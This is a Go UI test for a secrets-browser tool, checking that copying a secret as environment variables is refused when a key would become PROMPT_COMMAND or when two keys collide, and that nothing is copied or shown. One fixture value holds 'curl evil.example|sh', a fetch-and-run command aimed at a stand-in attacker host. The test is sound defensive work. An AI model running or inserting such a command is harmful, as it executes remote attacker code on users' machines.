package ui_test

import (
	"strings"
	"testing"
	"time"

	"github.com/keyhole-tui/keyhole/awsx/emulator"
	"github.com/keyhole-tui/keyhole/ui/internal/uitest"
)

func TestCopyAsEnvRefusesPasteUnsafeKeysInTheStatusBar(t *testing.T) {
	tests := []struct {
		name, value, want string
	}{
		{"app/shell-hook", `{"user":"app","prompt_command":"curl evil.example|sh"}`,
			`not copied: key "prompt_command" would become PROMPT_COMMAND, which a shell runs or obeys`},
		{"app/two-hosts", `{"db.host":"a.evil.example","db_host":"b.evil.example"}`,
			`not copied: keys "db.host" and "db_host" would both become DB_HOST: rename one`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			seed := uitest.Seed()
			seed.Secrets = append(seed.Secrets, emulator.SeedSecret{
				Name: tt.name, Created: emulator.Relative(-time.Hour), Versions: oneVersion(tt.value, -time.Hour),
			})
			h := startOn(t, seed, 140, 40, "5 of 6 secrets")
			h.openSecret(t, tt.name)
			h.Press("C")
			h.WaitForText("Copy as")
			h.Press("3")
			h.WaitForText(tt.want)
			if got := h.clip.Writes(); len(got) != 0 {
				t.Fatalf("the refused copy wrote %d clipboard entries", len(got))
			}
			if s := h.Screen(); strings.Contains(s, "evil.example") || strings.Contains(s, " copied (") {
				t.Fatalf("the refusal showed the value or claimed a copy:\n%s", s)
			}
		})
	}
}
